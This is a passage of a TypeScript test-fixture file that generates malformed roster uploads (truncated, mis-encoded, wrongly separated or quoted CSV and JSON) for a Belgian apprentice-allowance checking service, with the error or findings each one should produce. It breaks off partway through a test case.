/**
 * A hostile set of rosters: files that are cut off, spelled, packed, separated or typed wrongly, and what must be said
 * of each. What is expected was derived from docs/contract.md and the law (the tariffs of the second quarter of 2025),
 * by the small models below, and never by running the service.
 */
import { deflateRawSync, gzipSync } from "node:zlib";
import { strToU8, type Zippable, zipSync } from "fflate";

// ── What is expected ──

export type Totals = {
  readonly learners: number;
  readonly skipped: number;
  /** Euro; null where a part of it is unknown, and then what is known. */
  readonly due: number | null;
  readonly paid: number | null;
  readonly dueKnown?: number;
  readonly paidKnown?: number;
};
export type Good = {
  readonly status: 200;
  readonly rows: number;
  /** `row check`, in any order. */
  readonly findings: readonly string[];
  /** Of 2025K2. */
  readonly totals: Totals;
  /** References as they come back with findings, by row. */
  readonly references?: Readonly<Record<number, string>>;
};
export type Bad = {
  readonly status: number;
  readonly type: string;
  readonly code: string;
  /** Undefined where it is no matter. */
  readonly row?: number | null;
  readonly column?: number | string | null;
  /** The byte that is named. */
  readonly byte?: number;
  /** What was found in the rows that were read before. */
  readonly found?: { readonly rows?: number; readonly findings: readonly string[] };
};
export type Expected = Good | Bad;
export const isGood = (expected: Expected): expected is Good => expected.status === 200;

export type Case = {
  readonly kind: string;
  readonly name: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: Uint8Array;
  readonly query?: string;
  /** Limits of the service, for this case alone. */
  readonly env?: Readonly<Record<string, string>>;
  readonly expected: Expected;
  /** The sizes of the pieces it always comes in, over and over. */
  readonly pieces?: readonly number[];
  /** Asked once and in one piece only: it is large. */
  readonly heavy?: true;
  /** The answer is asked as a table too. */
  readonly tables?: true;
};

const euro = (cents: number): number => cents / 100;

// ── The law: what is due for each month of 2025K2 by step, in cents ──

export const quarter = "2025K2";
/**
 * GGMMI 2,111.89 × 29, 32 and 34.5 %, rounded up to ten cents; April has 22 timetable days of which 11 fall in the
 * Easter holiday, May 22 of which 1 is a bridging day, June 21.
 */
const tariff = { 1: 61_250, 2: 67_590, 3: 72_870 } as const;
type Step = keyof typeof tariff;
const half = (amount: number, part: number, whole: number): number =>
  Math.floor((2 * amount * part + whole) / (2 * whole));
const dueOf = (step: Step): readonly number[] => [half(tariff[step], 11, 22), half(tariff[step], 21, 22), tariff[step]];
const sum = (amounts: readonly number[]): number => amounts.reduce((total, amount) => total + amount, 0);

/** Findings on an amount that is paid every month to somebody on a step. */
export const paidFindings = (step: Step, paid: number): readonly string[] => {
  const lower = ([1, 2] as const).some((one) => one < step && tariff[one] === paid);
  return dueOf(step).flatMap((due) => [
    ...(paid < due ? ["leervergoeding-onder-tarief"] : paid < tariff[step] ? ["leervergoeding-onder-maandtarief"] : []),
    ...(lower ? ["trap-gemist"] : []),
    ...(paid > 5 * tariff[step] ? ["leervergoeding-ongeloofwaardig"] : []),
    ...(paid === 10 * tariff[step] || paid === 100 * tariff[step] ? ["komma-vergeten"] : []),
  ]);
};

// ── A roster of three learners with whom nothing is wrong ──

export type Cell = string | number | boolean | null | { readonly raw: string };
export type Row = Readonly<Record<string, Cell>>;
export const raw = (written: string): Cell => ({ raw: written });

export const headers = [
  "referentie",
  "insz",
  "overeenkomst",
  "start",
  "einde",
  "trap",
  "kwartaal",
  "leervergoeding",
] as const;
const common = { overeenkomst: "OAO", start: "1/09/2024", einde: "30/06/2026", kwartaal: quarter } as const;
export const learners: readonly Row[] = [
  { referentie: "A1", insz: "08.01.15-990.25", ...common, trap: 1, leervergoeding: 612.5 },
  { referentie: "A2", insz: "08031099191", ...common, einde: "30-6-2026", trap: 2, leervergoeding: 675.9 },
  { referentie: "A3", insz: "07 11 21 992 86", ...common, start: "2024-09-01", trap: 3, leervergoeding: 728.7 },
];
/** The numbers that no answer and no log may hold. */
export const secrets = ["08011599025", "08031099191", "07112199286", "93051822361", "06031500116"] as const;

/** What a row does to an answer. */
type RowOutcome = {
  readonly findings?: readonly string[];
  /** It stays out of the sums. */
  readonly skipped?: boolean;
  /** It is of no account in this quarter. */
  readonly elsewhere?: boolean;
  /** In cents, by month; null where nobody knows. Without, what the step asks. */
  readonly due?: readonly number[] | null;
  /** In cents a month; null where nothing stands. */
  readonly paid?: number | null;
  readonly step: Step;
};
const standard: readonly RowOutcome[] = [{ step: 1 }, { step: 2 }, { step: 3 }];
export const totalsOf = (rows: readonly RowOutcome[]): Totals => {
  const counted = rows.filter(({ skipped, elsewhere }) => !skipped && !elsewhere);
  const due = counted.map((row) => (row.due === undefined ? sum(dueOf(row.step)) : row.due && sum(row.due)));
  const paid = counted.map((row) =>
    row.paid === undefined ? 3 * tariff[row.step] : row.paid === null ? null : 3 * row.paid,
  );
  const whole = (amounts: readonly (number | null)[]): number | null =>
    amounts.includes(null) ? null : euro(sum(amounts as number[]));
  const known = (amounts: readonly (number | null)[]): number => euro(sum(amounts.map((amount) => amount ?? 0)));
  return {
    learners: counted.length,
    skipped: rows.filter(({ skipped }) => skipped).length,
    ...{ due: whole(due), paid: whole(paid), dueKnown: known(due), paidKnown: known(paid) },
  };
};
/** An answer about rows, the first of which stands in row 2; more findings as `row check`. */
const about = (rows: readonly RowOutcome[], more: readonly string[] = [], at?: readonly number[]): Good => ({
  status: 200,
  rows: at === undefined ? rows.length : Math.max(1, ...at) - 1,
  findings: [
    ...more,
    ...rows.flatMap(({ findings = [] }, place) => findings.map((check) => `${at?.[place] ?? place + 2} ${check}`)),
  ],
  totals: totalsOf(rows),
});
export const allGood: Good = about(standard);
const bad = (
  status: number,
  type: string,
  code: string,
  row: number | null = null,
  column?: number | string | null,
): Bad => ({
  ...{ status, type, code, row },
  column: column === undefined ? null : column,
});
const unreadable = (code: string, row: number | null = null, column: number | string | null = null): Bad =>
  bad(400, "unreadable-body", code, row, column);
const wrongShape = (code: string, row: number | null = null, column: number | string | null = null): Bad =>
  bad(422, "wrong-shape", code, row, column);
const tooLarge = (code: string): Bad => bad(413, "too-large", code);
const unknownMedia = (code: string): Bad => bad(415, "unsupported-media-type", code);
const unusable = (code: string, column: string): Bad => bad(422, "unusable-roster", code, 1, column);
const empty = bad(400, "empty-body", "emptyBody");
/** Row 3 cannot be read in one cell: the two others are summed. */
const broken: RowOutcome = { step: 2, findings: ["cel-onleesbaar"], skipped: true };

// ── The forms a roster may have ──

const encoder = new TextEncoder();
export const bytesOf = (text: string): Uint8Array => encoder.encode(text);
export const joined = (...parts: readonly (Uint8Array | string)[]): Uint8Array =>
  Buffer.concat(parts.map((part) => (typeof part === "string" ? bytesOf(part) : part)));

const written = (cell: Cell | undefined): string =>
  cell === undefined ? "null" : typeof cell === "object" && cell !== null ? cell.raw : JSON.stringify(cell);
const asMatrix = (rows: readonly Row[], columns: readonly string[] = headers): string =>
  `{"columns":${JSON.stringify(columns)},"rows":[${rows
    .map((row) => `[${columns.map((column) => written(row[column])).join()}]`)
    .join()}]}`;
const asObject = (row: Row): string =>
  `{${Object.entries(row)
    .map(([name, cell]) => `${JSON.stringify(name)}:${written(cell)}`)
    .join()}}`;
const asObjects = (rows: readonly Row[]): string => `[${rows.map(asObject).join()}]`;
const asLines = (rows: readonly Row[], end = "\n"): string => rows.map((row) => `${asObject(row)}${end}`).join("");

type CsvStyle = {
  readonly separator?: string;
  readonly end?: string;
  readonly mark?: boolean;
  readonly quotes?: boolean;
  readonly point?: boolean;
  readonly names?: boolean;
};
const csvCell = (cell: Cell | undefined, point: boolean): string =>
  cell === undefined || cell === null
    ? ""
    : typeof cell === "object"
      ? cell.raw
      : typeof cell === "number" && !Number.isInteger(cell)
        ? cell.toFixed(2).replace(".", point ? "." : ",")
        : String(cell);
const asCsv = (rows: readonly Row[], style: CsvStyle = {}, columns: readonly string[] = headers): string => {
  const { separator = ";", end = "\n", mark = false, quotes = false, point = false, names = false } = style;
  const cell = (text: string): string =>
    quotes || text.includes(separator) || /["\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
  const lines = [columns, ...rows.map((row) => columns.map((column) => csvCell(row[column], point)))];
  return `${mark ? "\uFEFF" : ""}${names ? `sep=${separator}${end}` : ""}${lines
    .map((line) => `${line.map(cell).join(separator)}${end}`)
    .join("")}`;
};

export const media = {
  json: "application/json",
  lines: "application/x-ndjson",
  csv: "text/csv",
  xlsx: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
} as const;
const as = (type: keyof typeof media) => ({ "content-type": media[type] });
const zipped = { "content-encoding": "gzip" } as const;

const all: Case[] = [];
type Given = Omit<Case, "kind" | "name" | "headers" | "body" | "expected">;
const add = (
  kind: string,
  name: string,
  headers: Readonly<Record<string, string>>,
  body: string | Uint8Array,
  expected: Expected,
  more: Given = {},
): void => {
  all.push({ kind, name, headers, body: typeof body === "string" ? bytesOf(body) : body, expected, ...more });
};

/** Line and character of a place in a text, both from 1. */
const placeIn = (text: string, at: number): readonly [number, number] => {
  const before = text.slice(0, at).split(/\r\n|\r|\n/);
  return [before.length, before[before.length - 1].length + 1];
};

// ── Good rosters in every form ──

const goodForms: readonly (readonly [string, keyof typeof media, string])[] = [
  ["JSON matrix", "json", asMatrix(learners)],
  [
    "JSON matrix, rows before columns",
    "json",
    asMatrix(learners).replace(/^\{("columns":.*),("rows":.*)\}$/, "{$2,$1}"),
  ],
  ["JSON objects", "json", asObjects(learners)],
  ["JSON with spaces", "json", ` \r\n${JSON.stringify(JSON.parse(asObjects(learners)), null, "\t")}\r\n `],
  ["JSON with a byte order mark", "json", `\uFEFF${asMatrix(learners)}`],
  [
    "JSON escaped from end to end",
    "json",
    asObjects(learners).replace(/[a-z]/g, (letter) => `\\u00${letter.charCodeAt(0).toString(16)}`),
  ],
  ["NDJSON", "lines", asLines(learners)],
  ["NDJSON with CRLF and no last end", "lines", asLines(learners, "\r\n").trimEnd()],
  ["NDJSON with blank lines", "lines", `\n\n${asLines(learners, "\n \n\t\n")}\n`],
  ["NDJSON with a byte order mark", "lines", `\uFEFF${asLines(learners)}`],
  ...([";", ",", "\t"] as const).flatMap((separator) =>
    (["\n", "\r\n", "\r"] as const).flatMap((end) =>
      [false, true].map(
        (mark) =>
          [
            `CSV ${JSON.stringify([separator, end])}${mark ? " with a byte order mark" : ""}`,
            "csv",
            asCsv(learners, { separator, end, mark, point: separator === "," }),
          ] as const,
      ),
    ),
  ),
  ...([";", ",", "\t"] as const).map(
    (separator) =>
      [`CSV in quotes, ${JSON.stringify(separator)}`, "csv", asCsv(learners, { separator, quotes: true })] as const,
  ),
  ...([";", ",", "\t", "|", "^"] as const).map(
    (separator) =>
      [
        `CSV that names ${JSON.stringify(separator)}`,
        "csv",
        asCsv(learners, { separator, names: true, mark: true }),
      ] as const,
  ),
  ["CSV with points for decimals", "csv", asCsv(learners, { point: true })],
  ["CSV with a comma and decimal commas in quotes", "csv", asCsv(learners, { separator: "," })],
  ["CSV without a last line end", "csv", asCsv(learners).trimEnd()],
  ["CSV with quotes from the second row on", "csv", asCsv(learners).replace("A2", '"A2"')],
  ["CSV with quotes from the last row on", "csv", asCsv(learners, { end: "\r\n" }).replace("A3", '"A3"')],
  ["CSV with mixed line ends", "csv", asCsv(learners).replace("\n", "\r\n").replace(/\n$/, "\r")],
  ["CSV with blank columns behind", "csv", asCsv(learners).replaceAll("\n", ";;\n")],
  ["CSV with blank rows behind", "csv", `${asCsv(learners)};;;;;;;\n\n;;\n`],
];
for (const [name, type, text] of goodForms) {
  add("goed", name, as(type), text, allGood);
  add("goed", `${name}, gzip`, { ...as(type), ...zipped }, gzipSync(text), allGood);
}

// ── Cut off ──

/** The columns of a header row that was cut off, and what is said of them. */
const groups = [["geboortedatum", "insz"], ["overeenkomst"], ["start"]] as const;
const cutHeader = (cells: readonly string[]): Expected => {
  const known = new Set<string>([...headers, "ref"]);
  const named = cells.filter((cell) => known.has(cell)).map((cell) => (cell === "ref" ? "referentie" : cell));
  const missing = groups.filter((group) => !group.some((id) => named.includes(id)));
  if (named.length === 0) return unusable("noColumns", "geboortedatum");
  if (missing.length > 0) return unusable("missingColumns", missing[0][0]);
  return about([], cells.some((cell) => cell !== "" && !known.has(cell)) ? ["1 onbekende-kolommen"] : []);
};
/** An amount as it stands after a cut. */
const cutAmount = (step: Step, typed: string): RowOutcome => {
  if (typed === "") return { step, paid: null };
  if (!/^\d+(,\d{1,2})?$/.test(typed)) return { step, findings: ["cel-onleesbaar"], skipped: true };
  const paid = Math.round(Number(typed.replace(",", ".")) * 100);
  return { step, paid, findings: paidFindings(step, paid) };
};
/** What is said of CSV that was cut off: it is a shorter roster. */
const cutCsv = (text: string): Expected => {
  if (/^\s*$/.test(text)) return empty;
  const lines = text.split(/\r\n|\n|\r/);
  if (lines.length === 1) return cutHeader(lines[0].split(";"));
  const rows = lines.slice(1, lines.at(-1) === "" ? -1 : undefined).map((line) => line.split(";"));
  const short = rows.findIndex((cells) => cells.length < headers.length);
  if (short >= 0) return wrongShape("tooFewCells", short + 2);
  return about(rows.map((cells, place) => cutAmount((place + 1) as Step, cells[headers.length - 1])));
};
/** The same of CSV in quotes: a quote that is open at the end never closes. */
const cutQuoted = (text: string): Expected => {
  let row = 1;
  let column = 1;
  let isOpen = false;
  for (const character of text) {
    if (character === '"') isOpen = !isOpen;
    else if (character === ";") column++;
    else if (character === "\n") {
      row++;
      column = 1;
    }
  }
  return isOpen ? unreadable("brokenQuote", row, column) : cutCsv(text.replaceAll('"', ""));
};
const tokens = /"(?:[^"\\]|\\.)*"|-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?|true|false|null|[[\]{},:]|\s+/g;
/** The first place of JSON that was cut off that no JSON allows. */
const cutPlace = (whole: string, at: number): number => {
  for (const { 0: token, index } of whole.matchAll(tokens)) {
    if (!(index < at && at < index + token.length)) continue;
    const part = token.slice(0, at - index);
    if (token.startsWith('"')) {
      const escaped = [...token.matchAll(/\\(?:u[0-9a-fA-F]{4}|.)/g)].find(
        (one) => one.index < part.length && part.length < one.index + one[0].length,
      );
      return escaped === undefined ? at : index + escaped.index;
    }
    if (/^-?\d/.test(token))
      return index + (/^-?(?:0|[1-9]\d*)(?:\.\d+)?(?:[eE][+-]?\d+)?/.exec(part)?.[0].length ?? 0);
    return token.trim() === "" ? at : index;
  }
  return at;
};
const cutJson = (whole: string, at: number): Expected => {
  if (whole.slice(0, at).trim() === "") return empty;
  if (at >= whole.trimEnd().length) return allGood;
  return unreadable("jsonSyntax", ...placeIn(whole, cutPlace(whole, at)));
};
const cutLines = (whole: string, at: number): Expected => {
  const text = whole.slice(0, at);
  if (text.trim() === "") return empty;
  const from = text.lastIndexOf("\n") + 1;
  const line = whole.slice(from).split("\n", 1)[0];
  const complete = text.slice(from).trimEnd() === line.trimEnd() || text.slice(from).trim() === "";
  const rows = text.split("\n").filter((one) => one.trim() !== "").length;
  return complete
    ? about(standard.slice(0, rows))
    : unreadable("jsonSyntax", ...placeIn(whole, from + cutPlace(line, at - from)));
};

const accented = learners.map((row, place) => (place === 1 ? { ...row, referentie: "Zoë 😀" } : row));
/** A body cut after each of its bytes; in the middle of a character it is no UTF-8. */
const cutEverywhere = (
  name: string,
  type: keyof typeof media,
  text: string,
  expect: (at: number) => Expected,
  step = 1,
): void => {
  let at = 0;
  let byte = 0;
  let turn = 0;
  for (const character of text) {
    const size = bytesOf(character).length;
    for (let inside = 0; inside < size; inside++)
      if (size > 1 || turn++ % step === 0)
        add(
          "afgekapt",
          `${name} after ${byte + inside} bytes`,
          as(type),
          bytesOf(text).subarray(0, byte + inside),
          inside === 0 ? expect(at) : { ...unreadable("notUtf8", ...placeIn(text, at)), byte: byte + 1 },
        );
    at += character.length;
    byte += size;
  }
};
const csvText = asCsv(accented, { end: "\r\n" });
cutEverywhere("CSV", "csv", csvText, (at) => cutCsv(csvText.slice(0, at)), 3);
const quotedText = asCsv(accented, { quotes: true });
cutEverywhere("CSV in quotes", "csv", quotedText, (at) => cutQuoted(quotedText.slice(0, at)), 11);
const matrixText = `${asMatrix(
  accented.map((row, place) => (place === 2 ? { ...row, trap: raw("3.0e0") } : row)),
).replace('"A3"', String.raw`"A3\u00e9\\\""`)}\n`;
cutEverywhere("JSON matrix", "json", matrixText, (at) => cutJson(matrixText, at), 5);
const objectsText = JSON.stringify(JSON.parse(asObjects(accented)), null, 1).replace("A3", "A3\\t\\ud83d\\ude00");
cutEverywhere("JSON objects on lines", "json", objectsText, (at) => cutJson(objectsText, at), 13);
const linesText = asLines(accented.slice(0, 2), "\r\n");
cutEverywhere("NDJSON", "lines", linesText, (at) => cutLines(linesText, at), 7);
for (const [name, type, text] of [
  ["CSV", "csv", csvText],
  ["JSON", "json", matrixText],
] as const) {
  const packed = gzipSync(text);
  const { length } = packed;
  for (const at of [
    1,
    2,
    3,
    9,
    10,
    11,
    12,
    20,
    length >> 1,
    length - 9,
    length - 8,
    length - 7,
    length - 4,
    length - 1,
  ])
    add(
      "afgekapt",
      `gzip of ${name} after ${at < length >> 1 ? at : `all but ${length - at}`} bytes`,
      { ...as(type), ...zipped },
      packed.subarray(0, at),
      unreadable("brokenGzip"),
    );
  add("afgekapt", `gzip of ${name} after 0 bytes`, { ...as(type), ...zipped }, "", empty);
}

// ── Encodings ──

const utf16 = (text: string, big: boolean, mark: boolean): Uint8Array => {
  const bytes = Buffer.from(`${mark ? "\uFEFF" : ""}${text}`, "utf16le");
  return big ? bytes.swap16() : bytes;
};
const forms = [
  ["CSV", "csv", asCsv(learners)],
  ["JSON", "json", asMatrix(learners)],
  ["NDJSON", "lines", asLines(learners)],
] as const;
for (const [name, type, text] of forms)
  for (const big of [false, true]) {
    const how = `${name} in UTF-16 ${big ? "BE" : "LE"}`;
    add("codering", `${how} with a mark`, as(type), utf16(text, big, true), {
      ...unreadable("notUtf8", 1, 1),
      byte: 1,
    });
    add("codering", `${how} with a mark, gzip`, { ...as(type), ...zipped }, gzipSync(utf16(text, big, true)), {
      ...unreadable("notUtf8", 1, 1),
      byte: 1,
    });
    // Without a mark it is UTF-8 with NUL between the letters: no JSON. As CSV no row of it has the cells it should.
    if (type !== "csv")
      add("codering", how, as(type), utf16(text, big, false), unreadable("jsonSyntax", 1, big ? 1 : 2));
  }
/** Of a NUL before or behind each letter headers and choices mind nothing; a number, a day or an amount does. */
const nulRow: RowOutcome = {
  step: 1,
  skipped: true,
  findings: ["insz", "start", "einde", "kwartaal", "leervergoeding"].map(() => "cel-onleesbaar"),
};
add("codering", "CSV in UTF-16 BE", as("csv"), utf16(asCsv(learners), true, false), about([nulRow, nulRow, nulRow]));
add("codering", "CSV in UTF-16 LE", as("csv"), utf16(asCsv(learners), false, false), wrongShape("tooFewCells", 5));
add("codering", "CSV in UTF-32 with a mark", as("csv"), joined(Uint8Array.of(0, 0, 0xfe, 0xff), asCsv(learners)), {
  ...unreadable("notUtf8", 1, 3),
  byte: 3,
});

/** Bytes that are no UTF-8, and how many of them are before the one that is named. */
const brokenBytes: readonly (readonly [string, readonly number[]])[] = [
  ["Latin-1", [0xe9]],
  ["a euro sign of Windows", [0x80]],
  ["a continuation alone", [0xbf]],
  ["an overlong NUL", [0xc0, 0x80]],
  ["an overlong slash", [0xc1, 0xaf]],
  ["an overlong slash of three", [0xe0, 0x80, 0xaf]],
  ["an overlong slash of four", [0xf0, 0x80, 0x80, 0xaf]],
  ["a half of a surrogate", [0xed, 0xa0, 0x80]],
  ["both halves of a surrogate", [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80]],
  ["a character beyond the last", [0xf4, 0x90, 0x80, 0x80]],
  ["a byte of five", [0xf8, 0x88, 0x80, 0x80, 0x80]],
  ["FF", [0xff]],
  ["FE", [0xfe]],
  ["two thirds of a euro sign", [0xe2, 0x82]],
  ["three quarters of an emoji", [0xf0, 0x9f, 0x98]],
];
for (const [what, bytes] of brokenBytes)
  for (const [name, type, text] of forms) {
    const put = (where: string, at: number): void => {
      const before = text.slice(0, at);
      const body = joined(before, Uint8Array.from(bytes), text.slice(at));
      const byte = bytesOf(before).length + 1;
      add("codering", `${what} ${where} of ${name}`, as(type), body, {
        ...unreadable("notUtf8", ...placeIn(text, at)),
        byte,
      });
    };
    put("in a cell", text.indexOf("A2") + 1);
    if (type === "csv") put("in the header", 2);
    put("at the end", text.length);
  }

const mark = "\uFEFF";
const withReference = (reference: string): readonly Row[] =>
  learners.map((row, place) => (place === 1 ? { ...row, referentie: reference } : row));
add("codering", "two byte order marks before CSV", as("csv"), `${mark}${mark}${asCsv(learners)}`, allGood);
add(
  "codering",
  "two byte order marks before JSON",
  as("json"),
  `${mark}${mark}${asMatrix(learners)}`,
  unreadable("jsonSyntax", 1, 1),
);
add("codering", "a byte order mark alone", as("csv"), mark, empty);
add("codering", "a byte order mark and a line end", as("csv"), `${mark}\r\n`, empty);
add("codering", "half a byte order mark", as("csv"), Uint8Array.of(0xef, 0xbb), {
  ...unreadable("notUtf8", 1, 1),
  byte: 1,
});
add(
  "codering",
  "a byte order mark in a cell of CSV",
  as("csv"),
  asCsv(learners).replace("30-6-2026", `${mark}30-6-2026`),
  allGood,
);
add(
  "codering",
  "a byte order mark at each row of CSV",
  as("csv"),
  asCsv(learners).replaceAll("\nA", `\n${mark}A`),
  allGood,
);
add(
  "codering",
  "a byte order mark in a text of JSON",
  as("json"),
  asMatrix(learners).replace('"A2"', `"${mark}A2"`),
  allGood,
);
for (const [name, type, text, find] of [
  ["JSON", "json", asMatrix(learners), '"A2"'],
  ["NDJSON", "lines", asLines(learners), '{"referentie":"A2"'],
] as const) {
  const at = text.indexOf(find);
  add(
    "codering",
    `a byte order mark between the values of ${name}`,
    as(type),
    `${text.slice(0, at)}${mark}${text.slice(at)}`,
    unreadable("jsonSyntax", ...placeIn(text, at)),
  );
  const inside = text.indexOf("A2") + 1;
  for (const control of [0, 1, 8, 0x1f])
    add(
      "codering",
      `control character ${control} in a text of ${name}`,
      as(type),
      `${text.slice(0, inside)}${String.fromCharCode(control)}${text.slice(inside)}`,
      unreadable("jsonSyntax", ...placeIn(text, inside)),
    );
}
add(
  "codering",
  "a NUL behind JSON",
  as("json"),
  `${asMatrix(learners)}\0`,
  unreadable("jsonSyntax", 1, asMatrix(learners).length + 1),
);
add("codering", "a NUL in a reference of CSV", as("csv"), asCsv(withReference("A\x002")), allGood);
add(
  "codering",
  "a NUL in a day of CSV",
  as("csv"),
  asCsv(learners).replace("30-6-2026", "30-6\0-2026"),
  about([{ step: 1 }, broken, { step: 3 }]),
);
add(
  "codering",
  "an escaped NUL in a day of JSON",
  as("json"),
  asMatrix(learners).replace("30-6-2026", "30-6\\u0000-2026"),
  about([{ step: 1 }, broken, { step: 3 }]),
);

// ── Separators and headers ──

const semicolons = asCsv(learners);
const [headerLine, ...dataLines] = semicolons.trimEnd().split("\n");
const lines = (...given: readonly string[]): string => given.map((line) => `${line}\n`).join("");
const csvCase = (name: string, text: string, expected: Expected): void =>
  add("scheiding", name, as("csv"), text, expected);
const rowsOf = (separator: string): readonly string[] =>
  asCsv(learners, { separator, point: true }).trimEnd().split("\n").slice(1);

csvCase("commas below a header of semicolons", lines(headerLine, ...rowsOf(",")), wrongShape("tooFewCells", 2));
csvCase(
  "semicolons below a header of commas",
  lines(headerLine.replaceAll(";", ","), ...rowsOf(";")),
  wrongShape("tooFewCells", 2),
);
csvCase("tabs below a header of semicolons", lines(headerLine, ...rowsOf("\t")), wrongShape("tooFewCells", 2));
csvCase(
  "one row of commas among semicolons",
  lines(headerLine, dataLines[0], rowsOf(",")[1], dataLines[2]),
  wrongShape("tooFewCells", 3),
);
csvCase("strokes", asCsv(learners, { separator: "|" }), unusable("noColumns", "geboortedatum"));
csvCase("spaces", asCsv(learners, { separator: " " }), unusable("noColumns", "geboortedatum"));
csvCase("colons", asCsv(learners, { separator: ":" }), unusable("noColumns", "geboortedatum"));
csvCase("two separators each", asCsv(learners, { separator: ";;" }).replaceAll('"', ""), { ...allGood });
csvCase("another separator than is named", `sep=,\n${semicolons}`, unusable("noColumns", "geboortedatum"));
csvCase("a separator is named and nothing else", "sep=;\n", unusable("noColumns", "geboortedatum"));
csvCase("a separator is named without a line end", "sep=;", unusable("noColumns", "geboortedatum"));
csvCase(
  "a separator is named on the second line",
  lines(headerLine, "sep=;", ...dataLines),
  wrongShape("tooFewCells", 2),
);
csvCase("a header only", lines(headerLine), about([]));
csvCase("a header without a line end", headerLine, about([]));
csvCase("no header", lines(...dataLines), unusable("noColumns", "geboortedatum"));
csvCase(
  "a title above the header",
  lines("Rooster van de garage", headerLine, ...dataLines),
  unusable("noColumns", "geboortedatum"),
);
csvCase("a blank line above the header", lines("", headerLine, ...dataLines), unusable("noColumns", "geboortedatum"));
csvCase("only separators", ";;;;;;;\n;;;;;;;\n", unusable("noColumns", "geboortedatum"));
csvCase("an empty file", "", empty);
csvCase("a line end", "\n", empty);
csvCase("blank lines", "\r\n \r\n\t\r\n", empty);
const secondHeader: RowOutcome = { step: 1, skipped: true, findings: headers.slice(1).map(() => "cel-onleesbaar") };
csvCase("the header twice", lines(headerLine, headerLine, ...dataLines), about([secondHeader, ...standard]));
csvCase("the header again below", lines(headerLine, ...dataLines, headerLine), about([...standard, secondHeader]));
csvCase(
  "blank rows between",
  lines(
    headerLine,
    "",
    dataLines[0],
    ";;;;;;;",
    "  ",
    dataLines[1].replace("30-6-2026", "30-13-2026"),
    "",
    "",
    dataLines[2],
  ),
  about([{ step: 1 }, broken, { step: 3 }], [], [3, 6, 9]),
);
csvCase("a row with a separator behind", lines(headerLine, dataLines[0], `${dataLines[1]};`, dataLines[2]), allGood);
csvCase(
  "a row with a cell too many",
  lines(headerLine, dataLines[0], `${dataLines[1]};x`, dataLines[2]),
  wrongShape("tooManyCells", 3),
);
csvCase(
  "a row with a cell too few",
  lines(headerLine, dataLines[0], dataLines[1].replace(/;[^;]*$/, ""), dataLines[2]),
  wrongShape("tooFewCells", 3),
);
csvCase("a space in quotes for a row", lines(headerLine, '" "', ...dataLines), about(standard, [], [3, 4, 5]));
csvCase(
  "a quote inside a cell",
  lines(headerLine, dataLines[0], dataLines[1].replace("A2", 'A"2'), dataLines[2]),
  unreadable("brokenQuote", 3, 1),
);
csvCase(
  "letters behind a quote",
  lines(headerLine, dataLines[0], dataLines[1].replace("OAO", '"OA"O'), dataLines[2]),
  unreadable("brokenQuote", 3, 3),
);
csvCase(
  "a quote that never closes",
  lines(headerLine, dataLines[0], dataLines[1].replace("A2", '"A2'), dataLines[2]),
  unreadable("brokenQuote", 3, 1),
);
csvCase("a quote alone behind", `${semicolons}"`, unreadable("brokenQuote", 5, 1));
csvCase("a quote alone", '"', unreadable("brokenQuote", 1, 1));
csvCase("a quote that opens in the header", `"${semicolons}`, unreadable("brokenQuote", 1, 1));
csvCase("single quotes", semicolons.replaceAll(/[^;\n]+/g, "'$&'"), {
  // They are letters of the cell: headers and choices mind them not.
  ...about(["1", "2", "3"].map(() => nulRow)),
});
csvCase(
  "line ends inside quotes",
  lines(
    headerLine,
    dataLines[0].replace("A1", '"A\r\n1"'),
    dataLines[1].replace("30-6-2026", '"30-6-\n2026"'),
    dataLines[2],
  ),
  about([{ step: 1 }, broken, { step: 3 }]),
);
csvCase("a header over two lines", semicolons.replace("einde", '"ein\nde"'), allGood);
csvCase(
  "separators inside quotes",
  lines(headerLine, dataLines[0].replace("A1", '";,;"'), ...dataLines.slice(1)),
  allGood,
);
csvCase(
  "a separator of commas that quotes hide",
  asCsv(learners, { separator: ",", point: true }).replace("referentie", '"ref"').replace("A1", '"A;1;;;;;;;;;;;;"'),
  allGood,
);
csvCase(
  "line feeds and carriage returns the wrong way round",
  semicolons.replaceAll("\n", "\n\r"),
  about(standard, [], [3, 5, 7]),
);
// It ends no line: all of it is a header, whose last columns nobody knows.
csvCase("the line separator of Unicode", semicolons.replaceAll("\n", "\u2028"), about([], ["1 onbekende-kolommen"]));

const renamed = (names: readonly string[], change: (text: string) => string = (text) => text): string =>
  change(lines(names.join(";"), ...dataLines));
csvCase(
  "headers in French",
  renamed(["Référence", "NISS", "Contrat", "Début", "Fin", "Échelon", "Trimestre", "Indemnité"]),
  allGood,
);
csvCase(
  "headers in French with loose accents",
  renamed(
    ["Référence", "NISS", "Contrat", "Début", "Fin", "Échelon", "Trimestre", "Indemnité"].map((name) =>
      name.normalize("NFD"),
    ),
  ),
  allGood,
);
csvCase(
  "headers in English",
  renamed(["Reference", "INSZ", "Agreement", "Start", "End", "Step", "Quarter", "Allowance"]),
  allGood,
);
csvCase(
  "headers in three languages",
  renamed(
    [
      "réf",
      "national number",
      "TYPE DE CONTRAT",
      "start date",
      " eind datum ",
      "ÉCHELON",
      "quarter",
      "leer-vergoeding",
    ].map((name) => (name === "réf" ? "ref" : name)),
  ),
  allGood,
);
csvCase(
  "headers in capitals with signs",
  renamed(headers.map((name) => ` *${name.toUpperCase().split("").join("_")}: `)),
  allGood,
);
csvCase("headers in another order", asCsv(learners, {}, [...headers].reverse()), allGood);
csvCase(
  "an unknown header",
  asCsv(
    learners.map((row) => ({ ...row, kleur: "groen" })),
    {},
    [...headers, "kleur"],
  ),
  about(standard, ["1 onbekende-kolommen"]),
);
csvCase(
  "two unknown headers of one name",
  asCsv(
    learners.map((row) => ({ ...row, kleur: "groen" })),
    {},
    ["kleur", ...headers, "kleur"],
  ),
  about(standard, ["1 onbekende-kolommen"]),
);
csvCase(
  "a column without a header",
  asCsv(
    learners.map((row) => ({ ...row, "": "x" })),
    {},
    [...headers, ""],
  ),
  allGood,
);
csvCase("a column twice", asCsv(learners, {}, [...headers, "start"]), unusable("doubleColumns", "start"));
csvCase(
  "a column in two languages",
  renamed([...headers, "Début"], (text) => text.replace(/^(A.*)$/gm, "$1;1/09/2024")),
  unusable("doubleColumns", "start"),
);
csvCase(
  "no start",
  asCsv(
    learners,
    {},
    headers.filter((name) => name !== "start"),
  ),
  unusable("missingColumns", "start"),
);
csvCase(
  "no agreement",
  asCsv(
    learners,
